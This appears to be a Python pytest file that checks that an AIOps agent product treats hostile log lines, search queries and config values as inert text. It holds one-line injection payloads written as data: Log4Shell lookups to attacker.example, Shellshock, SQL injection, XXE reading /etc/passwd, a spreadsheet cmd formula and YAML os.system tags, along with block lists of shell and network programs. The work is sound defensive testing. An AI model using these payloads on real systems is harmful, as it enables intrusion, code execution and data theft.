"""B12 to B15, B17 to B22: what stands in a log, a search or a file of ours is text, and nothing else. All is watched.

B01 to B11 and B16 are words that somebody gives the root executor: `test_b_words_for_root.py`.
"""

import ast
import json
import os

import pytest

from tests.attacks.witness import Watched
from tests.journeys.machine import CHECKOUT, KNOWN, REPAIR

LITERAL = {
    "jinja": "{{7*7}}",
    "block": "{% for x in range(9) %}{{x}}{% endfor %}",
    "shell": "${7*7} #{7*7} %s%n%x {0} {host} $HOME",
    "log4shell": "${jndi:ldap://attacker.example/a} ${${lower:j}ndi:ldap://attacker.example/b}",
    "shellshock": "() { :;}; echo vulnerable",
    "globs": "* ~root ?? [a-z] {a,b}",
    "sql": "'); DROP TABLE outbox;--",
    "tilde": "~! id ~.",
}


@pytest.fixture(scope="module")
def told(tmp_path_factory):
    """A machine whose log held each of them once, read by one scan."""
    machine = Watched(tmp_path_factory.mktemp("told"))
    machine.is_healthy()
    lines = [f"2026-11-23 03:00:00,001 ERROR {name}: gave up at {text} today" for name, text in LITERAL.items()]
    assert machine.suffers(*lines)["errors"] == len(LITERAL)
    return machine


@pytest.fixture
def machine(tmp_path):
    machine = Watched(tmp_path)
    machine.is_healthy()
    return machine


def is_text_in_every_place_it_comes_to(told, name):
    found = told.run("incidents", "list", "--json").json["incidents"]
    [shown] = [incident for incident in found if incident["title"].startswith(f"{name}: ")]
    assert shown["title"] == f"{name}: gave up at {LITERAL[name]} today"
    assert LITERAL[name] in told.run("incidents", "show", shown["id"]).out
    assert LITERAL[name] in told.reports_text()
    assert told.reached_for() == []


@pytest.mark.slow
@pytest.mark.parametrize("name", ["jinja", "block", "shell"])
def test_b12_what_looks_like_a_template_is_filled_in_by_nobody(told, name):
    is_text_in_every_place_it_comes_to(told, name)


@pytest.mark.slow
def test_b13_log4shell_is_looked_up_by_nobody_and_asks_no_name_server(told):
    is_text_in_every_place_it_comes_to(told, "log4shell")


@pytest.mark.slow
def test_b14_shellshock_in_a_line_comes_to_no_environment(told):
    is_text_in_every_place_it_comes_to(told, "shellshock")


@pytest.mark.slow
def test_b15_patterns_homes_and_variables_in_a_line_are_not_expanded(told):
    is_text_in_every_place_it_comes_to(told, "globs")


@pytest.mark.slow
def test_b17_sql_in_a_line_is_a_value(told):
    is_text_in_every_place_it_comes_to(told, "sql")


@pytest.mark.slow
def test_b20_a_tilde_in_a_line_reaches_no_program_that_reads_commands(told):
    is_text_in_every_place_it_comes_to(told, "tilde")


@pytest.mark.slow
@pytest.mark.parametrize("word", ["'); DROP TABLE outbox;--", "inc-1' OR '1'='1", "%", "_", "*"])
def test_b17_what_a_person_types_is_a_value(machine, word):
    machine.writes(KNOWN)
    machine.scan()
    for command in (("incidents", "show"), ("incidents", "close"), ("approvals", "approve"), ("approvals", "deny")):
        done = machine.run(*command, word)
        assert (done.code, "usage:" in done.err) == (2, False), "there is no such thing, by that very name"
    machine.run("silence", "add", "--service", word, "--for", "1h", "--comment", word)
    assert [s["service"] for s in machine.run("silence", "list", "--json").json["silences"]] == [word]
    assert len(machine.run("incidents", "list", "--json").json["incidents"]) == 1


@pytest.mark.slow
@pytest.mark.parametrize(
    "query", ['"NEAR/', "*", "NEAR(a b, 2)", "a AND", "title: x", '"', "-", "(", "a^2", "{x y}: z", "' OR 1=1 --"]
)
def test_b18_the_syntax_of_the_index_is_only_words(machine, query):
    done = machine.run("kb", "search", query, "--json")
    assert done.code == 0, done.err
    assert set(json.loads(done.out)) == {"articles"}


@pytest.mark.slow
def test_b19_a_formula_leaves_the_agent_as_a_json_string_only(machine):
    formula = "=cmd|' /C calc'!A0"
    machine.suffers(f"2026-11-23 03:00:00,001 ERROR {formula}", f"2026-11-23 03:00:00,001 ERROR worker: {formula}")
    bundle = machine.folder / "bundle"
    assert machine.run("audit", "export", str(bundle)).code == 0
    helps = machine.run("audit", "export", "--help").out + machine.run("incidents", "list", "--help").out
    assert "csv" not in helps.lower()
    for line in machine.run("audit", "show", "--jsonl").out.splitlines():
        json.loads(line)
    for line in machine.run("incidents", "list").out.splitlines():
        assert not line.startswith(("=", "+", "-", "@"))


def imported() -> dict[str, set[str]]:
    """Return the modules that each file of the product names."""
    found: dict[str, set[str]] = {}
    for path in (CHECKOUT / "aiops_agent").rglob("*.py"):
        names = found.setdefault(str(path.relative_to(CHECKOUT)), set())
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Import):
                names |= {alias.name.split(".")[0] for alias in node.names}
            elif isinstance(node, ast.ImportFrom) and node.module:
                names.add(node.module.split(".")[0])
    return found


def test_b21_b22_nothing_here_parses_xml_or_unpickles_or_sends_mail():
    refused = {"xml", "lxml", "pickle", "marshal", "shelve", "dill", "smtplib", "pty", "imp", "code"}
    assert {file: bad for file, names in imported().items() if (bad := names & refused)} == {}


SHELLS = {"sh", "bash", "dash", "ash", "zsh", "env", "xargs", "perl", "awk", "script", "su", "sudo", "ssh", "expect"}
ASKING = {"mail", "mailx", "sendmail", "whois", "less", "more", "pager", "vi", "vim", "ed", "nano"}
STARTING = {"os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput", "pty.spawn", "eval"}


def test_b20_programs_are_started_in_four_places_by_a_list_of_words_and_none_obeys_commands():
    """A shell, a pager or `mail` is named nowhere, but for `bash -n`; nothing reads our own standard input."""
    started, found = set(), []
    for path in (CHECKOUT / "aiops_agent").rglob("*.py"):
        name = str(path.relative_to(CHECKOUT / "aiops_agent"))
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Constant) and isinstance(node.value, str):
                word = node.value.rpartition("/")[2]
                found += [(name, word)] if word in SHELLS | ASKING and name not in NO_PROGRAM_OF_THAT_NAME else []
            elif isinstance(node, ast.Call):
                called = ast.unparse(node.func)
                found += [(name, called)] if called in STARTING else []
                if called.startswith(("subprocess.", "os.exec", "os.posix_spawn")):
                    words = {keyword.arg for keyword in node.keywords}
                    started.add((name, called, "stdin" in words, "shell" in words))
    assert found == []  # what provokes faults on a test machine is a script of ours for bash, and no server imports it
    assert started == {
        ("training/provoke.py", "subprocess.run", True, False),
        ("playbook/spawn.py", "subprocess.Popen", True, False),
        ("sources/journalctl.py", "subprocess.Popen", True, False),
        ("cli/demo.py", "subprocess.Popen", False, False),  # the shop of the demo, a script of ours
        ("cli/articles.py", "subprocess.run", False, False),  # given the commands of an article, to read and not to run
    }


NO_PROGRAM_OF_THAT_NAME = {
    "settings.py": "where a secret is: `env:NAME`",
    "cli/health/surroundings.py": "the same",
    "training/provoke.py": "which runs on a test machine only",
    "training/mine.py": "whose catalogues hold names only",
    "diagnosis/lint.py": "how a block of an article is marked",
    "cli/articles.py": "`bash -n`: tests/cli/test_kb_lint.py sees that it runs nothing",
}


@pytest.mark.slow
@pytest.mark.parametrize("bomb", ["<!ENTITY a 'aaaaaaaaaa'>", '<!ENTITY x SYSTEM "file:///etc/passwd">'])
def test_b21_xml_in_a_line_is_text(machine, bomb):
    body = f"<?xml version='1.0'?><!DOCTYPE r [{bomb}]><r>&a;&x;</r>"
    assert machine.suffers(f"2026-11-23 03:00:00,001 ERROR worker: cannot read {body}")["errors"] == 1
    shown = json.dumps(machine.run("incidents", "list", "--json").json)
    assert "root:" not in shown
    assert "&a;" in shown


@pytest.mark.slow
@pytest.mark.parametrize(
    "tag", ["!!python/object/apply:os.system ['touch HERE']", "!!python/name:os.system", "!!python/object/new:os.x []"]
)
@pytest.mark.parametrize("kind", ["playbook", "config", "article"])
def test_b22_a_tag_of_python_makes_nothing(machine, tag, kind):
    trace = machine.folder / "made"
    tag = tag.replace("HERE", str(trace))
    if kind == "playbook":
        file = machine.folder / "tagged.yaml"
        file.write_text(REPAIR.replace("PROBE", "file_absent").replace("version: 1", f"version: {tag}"))
        done = machine.run("playbook", "lint", str(file))
        assert done.code == 1
    elif kind == "config":
        with machine.config.open("a") as file:
            file.write(f"chat: {tag}\n")
        done = machine.run("scan")
        assert done.code == 2
    else:
        shelf = machine.folder / "kb"
        shelf.mkdir()
        (shelf / "tagged.md").write_text(f"---\nid: x/tagged\ntitle: {tag}\n---\ntext\n")
        machine.configure(knowledge_base=f"[{shelf}]")
        done = machine.run("kb", "lint")
        assert done.code == 1
    assert not trace.exists()
    assert not os.path.lexists("made")
